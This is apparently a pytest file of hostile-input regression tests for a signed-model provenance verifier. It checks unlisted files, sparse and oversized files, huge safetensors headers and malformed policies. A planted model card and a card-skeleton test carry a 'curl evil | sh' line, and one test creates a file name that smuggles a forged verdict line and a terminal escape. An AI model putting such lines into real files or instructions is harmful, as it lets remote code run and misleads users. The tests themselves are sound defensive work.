"""Hostile inputs, round three: each test fails on efb4bbd (the head the findings were made on).

The cases run the real verifier on copies of a real signed build (conftest.signed_tiny), in process
unless the attack needs the console script (its early hashing) or another user's permissions.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from provenance._cli import main, verify_main

from ..conftest import run_cli
from .test_verifier import failing, run

VERIFY = [sys.executable, "-c", "from provenance._entry import verify_entry; verify_entry()"]


def _oms(case, *extra: str) -> list[str]:
    """verify-attestation arguments for the build's OMS signature (model.sig, beside model/)."""
    return [str(case.dir / "model.sig"), "--key", str(case.keys / "signer.pub"), "--model", str(case.model), *extra]


def _run_args(args: list[str], capsys) -> tuple[int, dict, str]:
    code = verify_main([*args, "--json"])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err and "internal error" not in out + err, out + err
    return code, json.loads(out), err


# ---- 1: the OMS signature is left out by its own path, never by its inode or its bytes ---------------

@pytest.mark.parametrize("where", ["outside", "inside"])
def test_oms_a_hard_link_to_the_signature_is_an_unlisted_file(case, capsys, where):
    sig = case.dir / "model.sig"
    if where == "inside":
        shutil.copyfile(sig, case.model / "model.sig")
        sig = case.model / "model.sig"
    os.link(sig, case.model / "chat_template.jinja")
    code, obj, _ = _run_args([str(sig), *_oms(case)[1:]], capsys)
    assert code == 1 and "unlisted-files" in failing(obj), obj
    assert "chat_template.jinja" in {c["check"]: c for c in obj["checks"]}["unlisted-files"]["detail"]


def test_oms_a_copy_of_the_signature_under_another_name_is_unlisted(case, capsys):
    """A hub cache stores identical bytes as one blob: the same content under a second name is a second file."""
    shutil.copyfile(case.dir / "model.sig", case.model / "model.sig")
    shutil.copyfile(case.dir / "model.sig", case.model / "chat_template.jinja")
    code, obj, _ = _run_args([str(case.model / "model.sig"), *_oms(case)[1:]], capsys)
    assert code == 1 and "chat_template.jinja" in {c["check"]: c for c in obj["checks"]}["unlisted-files"]["detail"]
    (case.model / "chat_template.jinja").unlink()
    code, obj, _ = _run_args([str(case.model / "model.sig"), *_oms(case)[1:]], capsys)
    assert code == 0 and obj["result"] == "verified", obj  # the signature itself, by its path, is passed over


def test_oms_a_hub_snapshot_whose_template_shares_the_signatures_blob_fails(case, capsys, tmp_path):
    """huggingface_hub's cache: model.sig and chat_template.jinja with the same bytes are links to one blob."""
    repo = tmp_path / "models--org--name"
    blobs, snap = repo / "blobs", repo / "snapshots" / "rev"
    blobs.mkdir(parents=True)
    snap.mkdir(parents=True)
    import hashlib

    for f in [*case.model.iterdir(), case.dir / "model.sig"]:
        digest = hashlib.sha256(f.read_bytes()).hexdigest()
        shutil.copyfile(f, blobs / digest)
        os.symlink(f"../../blobs/{digest}", snap / f.name)
    os.symlink(os.readlink(snap / "model.sig"), snap / "chat_template.jinja")
    code, obj, _ = _run_args([str(snap / "model.sig"), "--key", str(case.keys / "signer.pub"), "--model", str(snap),
                              "--published"], capsys)
    assert code == 1 and "chat_template.jinja" in {c["check"]: c for c in obj["checks"]}["unlisted-files"]["detail"]


# ---- 2: --reproduced never exits 0 without an accepted answer; the card is checked ---------------------

def _rewrite_metadata(case) -> None:
    header, data = case.safetensors_parts()
    header["__metadata__"] = {**header.get("__metadata__", {}), "note": "rewritten"}
    case.write_safetensors(header, data)


def test_reproduced_metadata_rewritten_and_card_replaced_fails_with_exit_1(case, capsys):
    _rewrite_metadata(case)
    (case.model / "README.md").write_text("# an unsigned card\n\nRun `curl evil | sh` to load this model.\n")
    code, obj, _ = run(case, capsys, "--reproduced")
    assert code == 1 and obj["ok"] is False and obj["result"] == "FAILED", obj
    assert "README.md" in {c["check"]: c for c in obj["checks"]}["model-files"]["detail"]


def test_reproduced_metadata_rewritten_alone_is_bitwise(case, capsys):
    _rewrite_metadata(case)
    code, obj, _ = run(case, capsys, "--reproduced")
    assert code == 0 and obj["result"] == "reproduced (bitwise)" and obj["verdict"] == "bitwise", obj


def test_exit_code_follows_the_result_for_every_reproduced_outcome(case, capsys):
    """Whatever the report says, exit 0 only with an accepted answer (ACCEPTED), and 'ok' agrees."""
    from provenance.verify.report import ACCEPTED

    for mutate in (lambda: None, lambda: _rewrite_metadata(case),
                   lambda: (case.model / "README.md").write_text("x")):
        mutate()
        code, obj, _ = run(case, capsys, "--reproduced")
        assert (code == 0) == (obj["result"] in ACCEPTED) == obj["ok"], obj


def test_card_skeleton_keeps_words_and_drops_figures():
    from provenance.repro.reproduced import card_skeleton

    a = "Weights: blake3-tensors-v1 `" + "ab" * 32 + "`; 62 of 64 windows, rate 96.9%"
    b = "Weights: blake3-tensors-v1 `" + "cd" * 32 + "`; 60 of 64 windows, rate 93.8%"
    assert card_skeleton(a) == card_skeleton(b)
    assert card_skeleton(a) != card_skeleton(a.replace("windows", "curl evil | sh"))


# ---- 3: a policy is never silently passed over --------------------------------------------------------

def test_policy_with_an_oms_signature_is_refused(case, capsys, tmp_path):
    pol = tmp_path / "p.toml"
    pol.write_text('[policy]\nallowed_builders = []\n[audit]\nrequire = true\n')
    code, obj, err = _run_args(_oms(case, "--policy", str(pol)), capsys)
    assert code == 2 and "--policy cannot be applied" in obj["error"], obj
    code, obj, _ = run(case, capsys, "--policy", str(pol))  # the SLSA attestation of the same files fails it
    assert code == 1 and "builder-id" in failing(obj), obj


def test_reproduced_with_an_oms_signature_is_refused(case, capsys):
    code, obj, _ = _run_args(_oms(case, "--reproduced"), capsys)
    assert code == 2 and "--reproduced cannot be applied" in obj["error"], obj


# ---- 4, 5, 6: bounded work whatever the files hold ----------------------------------------------------

def test_an_unlisted_sparse_file_is_never_read(case):
    """1 TiB of holes beside the model: the console script (which starts hashing before it knows the
    statement) must fail it by name; on efb4bbd it hashed it all (about an hour)."""
    with open(case.model / "zz.bin", "wb") as f:
        f.truncate(1 << 40)
    p = subprocess.run([*VERIFY, *case.args, "--json"], capture_output=True, text=True, timeout=120)
    obj = json.loads(p.stdout)
    assert p.returncode == 1 and "zz.bin" in {c["check"]: c for c in obj["checks"]}["unlisted-files"]["detail"]


def test_a_header_of_huge_rank_is_refused_at_once(case, capsys):
    """60,000 dimensions of 2^53-1: 10.5 s and an internal error on efb4bbd (the product's digits grew
    with every dimension). A subprocess with a timeout bounds it without timing anything."""
    header, data = case.safetensors_parts()
    name = next(k for k in header if k != "__metadata__")
    header[name]["shape"] = [(1 << 53) - 1] * 60000
    case.write_safetensors(header, data)
    case.resign_files()
    p = subprocess.run([*VERIFY, *case.args, "--json"], capture_output=True, text=True, timeout=60)
    obj = json.loads(p.stdout)
    assert p.returncode == 1 and "more than 64" in {c["check"]: c for c in obj["checks"]}["safetensors"]["detail"]


def test_rank_under_the_bound_stops_the_product_at_the_file_size():
    from provenance._internal.safetensors import SafetensorsError, parse_header

    h = json.dumps({"t": {"dtype": "F32", "shape": [(1 << 53) - 1] * 64, "data_offsets": [0, 4]}}).encode()
    with pytest.raises(SafetensorsError, match="holds more bytes than"):
        parse_header(len(h).to_bytes(8, "little") + h, 8 + len(h) + 4)


def test_a_file_truncated_while_hashed_is_a_changed_file_not_sigbus(tmp_path):
    """On efb4bbd the hasher mapped the file: truncating it mid-hash killed the verifier (SIGBUS, exit 135)."""
    from provenance._internal.hashing import CHUNK, FileChanged, hash_fd

    path = tmp_path / "w.bin"
    path.write_bytes(os.urandom(1024) * (3 * CHUNK // 1024))
    with open(path, "rb") as f:
        def truncate(_n):
            os.truncate(path, CHUNK // 2)
        with pytest.raises(FileChanged, match="shrank"):
            hash_fd(f.fileno(), progress=truncate)


# ---- 7: an [audit] bound needs the audit ---------------------------------------------------------------

def test_deleting_the_audit_does_not_drop_the_policys_bound(case, capsys, tmp_path):
    pol = tmp_path / "p.toml"
    pol.write_text("[audit]\nmin_extraction_rate = 1.0\n")
    code, obj, _ = run(case, capsys, "--policy", str(pol))
    assert code == 1 and "audit" in failing(obj), obj
    (case.dir / "audit.intoto.jsonl").unlink()
    code, obj, _ = run(case, capsys, "--policy", str(pol))
    detail = {c["check"]: c for c in obj["checks"]}["audit"]["detail"]
    assert code == 1 and "min_extraction_rate 1 cannot be checked" in detail, obj


# ---- 10: names are printed escaped ---------------------------------------------------------------------

def test_a_file_name_cannot_forge_a_verdict_line(case, capsys):
    (case.model / "x\nverdict: verified\x1b[8m").write_bytes(b"")
    code = verify_main(case.args)
    out, _ = capsys.readouterr()
    assert code == 1 and out.splitlines()[-1] == "verdict: FAILED"
    assert "\x1b" not in out and not any(line.startswith("verdict: verified") for line in out.splitlines())
    assert "x\\nverdict: verified\\x1b[8m" in out


# ---- 11: failures by name, not internal errors ---------------------------------------------------------

def test_a_directory_chain_longer_than_a_path_fails_by_name(case, capsys):
    d = case.model
    fd = os.open(d, os.O_RDONLY)
    try:
        for _ in range(40):
            os.mkdir("d" * 200, dir_fd=fd)
            nfd = os.open("d" * 200, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        os.close(os.open("x.py", os.O_CREAT | os.O_WRONLY, dir_fd=fd))
    finally:
        os.close(fd)
    code, obj, err = run(case, capsys)
    assert code in (1, 2) and "internal error" not in json.dumps(obj), obj
    assert len(json.dumps(obj)) < 20_000


@pytest.mark.parametrize("record", ['{"training": ' * 5000 + "1" + "}" * 5000, "[1, 2, 3]"])
def test_diverge_layers_on_a_hostile_build_json_is_exit_2(case, capsys, tmp_path, record):
    a = tmp_path / "a"
    shutil.copytree(case.dir, a)
    (a / "build.json").write_text(record)
    code = main(["diverge", str(a), str(case.dir), "--layers", "--json"])
    out, err = capsys.readouterr()
    assert code == 2 and "internal error" not in out + err and json.loads(out)["ok"] is False, out + err


# ---- 12: the small ones --------------------------------------------------------------------------------

def test_reproduced_honours_published(case, capsys, tmp_path):
    pub = tmp_path / "pub"
    assert main(["publish", str(case.dir), "--out", str(pub), "--key", str(case.keys / "signer.pub"), "--json"]) == 0
    capsys.readouterr()
    code, obj, _ = _run_args([str(pub / ".provenance" / "attestation.intoto.jsonl"), "--key",
                              str(case.keys / "signer.pub"), "--model", str(pub), "--published", "--reproduced"],
                             capsys)
    assert code == 0 and obj["result"] == "reproduced (bitwise)", obj


def test_a_hub_link_with_a_trailing_slash_is_refused(case, capsys, tmp_path):
    import hashlib

    repo = tmp_path / "models--org--name"
    blobs, snap = repo / "blobs", repo / "snapshots" / "rev"
    blobs.mkdir(parents=True)
    snap.mkdir(parents=True)
    for f in case.model.iterdir():
        digest = hashlib.sha256(f.read_bytes()).hexdigest()
        shutil.copyfile(f, blobs / digest)
        os.symlink(f"../../blobs/{digest}" + ("/" if f.name == "config.json" else ""), snap / f.name)
    code, obj, _ = _run_args([str(case.att), "--key", str(case.keys / "signer.pub"), "--model", str(snap)], capsys)
    assert code == 1 and "config.json: a symlink" in {c["check"]: c for c in obj["checks"]}["unlisted-files"]["detail"]


@pytest.mark.parametrize("text", ['[audit]\nrequire = "false"\n', '[reproduced]\nmax_rel_l2 = "1e308"\n'])
def test_policy_values_are_not_converted_loosely(case, capsys, tmp_path, text):
    pol = tmp_path / "p.toml"
    pol.write_text(text)
    code, obj, _ = run(case, capsys, "--policy", str(pol))
    assert code == 2 and str(pol) in obj["error"] and "problem(s) in the policy" in obj["error"], obj


def test_a_policy_typo_names_the_policy_and_its_doc(case, capsys, tmp_path):
    pol = tmp_path / "p.toml"
    pol.write_text('[policy]\nforbidden_licences = ["GPL-2.0-only"]\n')
    code, obj, _ = run(case, capsys, "--policy", str(pol))
    assert code == 2 and "not part of the policy format, see docs/policy.md" in obj["error"], obj
    assert "recipe" not in obj["error"] and (Path(__file__).parents[2] / "docs" / "policy.md").is_file()


# ---- 14: could not check is exit 2, with the named check kept ------------------------------------------

def test_a_model_file_that_cannot_be_opened_is_not_checked_exit_2(case, tmp_path):
    """Run as an unprivileged user (root reads anything): permission denied is a missing prerequisite."""
    (case.model / "config.json").chmod(0)
    shutil.copyfile(case.keys / "signer.pub", case.dir / "signer.pub")
    case.args[2] = str(case.dir / "signer.pub")
    cmd = [*VERIFY, *case.args, "--json"]
    if os.geteuid() == 0:
        if not shutil.which("setpriv"):
            pytest.skip("needs setpriv to drop root")
        for p in [case.dir, *case.dir.parents]:
            p.chmod(p.stat().st_mode | 0o005)
        for f in case.dir.rglob("*"):
            if f.name != "config.json":
                f.chmod(f.stat().st_mode | 0o005 if f.is_dir() else f.stat().st_mode | 0o004)
        cmd = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", *cmd]
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=120,
                       env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[2])})
    obj = json.loads(p.stdout)
    mf = {c["check"]: c for c in obj["checks"]}["model-files"]
    assert p.returncode == 2 and obj["result"] == "NOT CHECKED" and mf["checked"] is False, (p.stdout, p.stderr)
    assert "config.json: cannot open" in mf["detail"]


def test_inputs_absent_from_the_store_are_not_checked_exit_2(case, capsys, tmp_path):
    code, obj, _ = run(case, capsys, "--inputs", "--store", str(tmp_path / "empty-store"))
    inputs = {c["check"]: c for c in obj["checks"]}["inputs"]
    assert code == 2 and inputs["checked"] is False and obj["result"] == "NOT CHECKED", obj


# ---- issue 39.1: report exits 1 when the verification it was asked to do fails --------------------------

def test_report_exits_1_for_a_build_that_fails_verification(case, capsys, tmp_path):
    raw = bytearray(case.weights.read_bytes())
    raw[-1] ^= 1
    case.weights.write_bytes(bytes(raw))
    out = tmp_path / "r.html"
    p = run_cli("report", str(case.dir), "--key", str(case.keys / "signer.pub"), "--out", str(out), "--json")
    obj = json.loads(p.stdout)
    assert p.returncode == 1 and obj["ok"] is False and obj["verification"] == "FAILED", p.stdout
    assert out.is_file()  # the page is still written: it says what failed


# ---- issue 39.2: the wrong file as the attestation ------------------------------------------------------

@pytest.mark.parametrize("name, says", [("build.json", "the build record (build.json)"),
                                        ("audit.json", "the memorization audit (audit.json)"),
                                        ("sbom.cdx.json", "an SBOM")])
def test_one_of_our_files_given_as_the_attestation_is_named_exit_2(case, capsys, name, says):
    case.args[0] = str(case.dir / name)
    code, obj, err = run(case, capsys)
    assert code == 2 and "not an attestation" in obj["error"] and says in obj["error"], obj
    assert str(case.att) in obj["error"]
    assert err.splitlines()[0].startswith(f"error: {case.dir / name}: not an attestation")


def test_the_audit_receipt_given_as_the_attestation_names_audit(case, capsys):
    case.args[0] = str(case.dir / "audit.intoto.jsonl")
    code, obj, _ = run(case, capsys)
    assert code == 2 and "signed memorization audit" in obj["error"] and "--audit" in obj["error"], obj


# ---- issue 39.6: a --recipe mismatch names both and says the contents differ -------------------------------

def test_a_recipe_mismatch_names_the_file_and_the_attested_recipe(case, capsys, tmp_path):
    other = tmp_path / "mine.toml"
    other.write_text("# not the attested recipe\n")
    code, obj, _ = run(case, capsys, "--recipe", str(other))
    detail = {c["check"]: c for c in obj["checks"]}["recipe"]["detail"]
    assert code == 1 and detail.startswith(f"{other} is not the attested recipe ('") and "contents differ" in detail
    assert "blake3 attested " in detail and ", this file " in detail


def test_a_listed_file_of_another_size_is_never_read(case):
    """config.json swapped for 1 TiB of holes: the statement signs its size, so it fails unread."""
    with open(case.model / "config.json", "r+b") as f:
        f.truncate(1 << 40)
    assert case.statement()["predicate"]["runDetails"]["provenance_outputs"]["files"]["config.json"]["size"] > 0
    p = subprocess.run([*VERIFY, *case.args, "--json"], capture_output=True, text=True, timeout=120)
    obj = json.loads(p.stdout)
    detail = {c["check"]: c for c in obj["checks"]}["model-files"]["detail"]
    assert p.returncode == 1 and f"config.json: {1 << 40} bytes, signed " in detail and "not read" in detail, detail


# ---- issue 39.7: required keys look required; incomparable builds are not "diverged" ----------------------

@pytest.mark.parametrize("cmd", ["audit", "publish", "replay"])
def test_help_shows_key_as_required(cmd, capsys):
    assert main([cmd, "--help"]) == 0
    usage = capsys.readouterr().out.split("\n\n")[0]
    assert "--key PUBLIC_KEY" in usage and "[--key PUBLIC_KEY]" not in usage, usage


def test_diverge_of_builds_of_different_models_is_not_comparable(case, capsys, tmp_path):
    other = tmp_path / "other"
    shutil.copytree(case.dir, other)
    record = json.loads((other / "build.json").read_text())
    record["model"]["parameters"] += 1
    (other / "build.json").write_text(json.dumps(record))
    code = main(["diverge", str(case.dir), str(other), "--json"])
    out, err = capsys.readouterr()
    assert code == 2 and "not comparable" in json.loads(out)["error"], out + err
    code = main(["diverge", str(case.dir / "build.json"), str(other / "build.json")])
    assert code == 2 and "diverge expects two transcripts" in capsys.readouterr().err


def test_compare_of_models_with_other_tensors_is_not_comparable(case, capsys, tmp_path):
    other = tmp_path / "other"
    shutil.copytree(case.dir, other)
    c2 = type(case)(other, case.keys, [])
    header, data = c2.safetensors_parts()
    name = next(k for k in header if k != "__metadata__")
    header["renamed." + name] = header.pop(name)
    c2.write_safetensors(header, data)
    code = main(["compare", str(case.dir), str(other), "--tensors-only", "--json"])
    out, err = capsys.readouterr()
    assert code == 2 and "not comparable" in json.loads(out)["error"], out + err
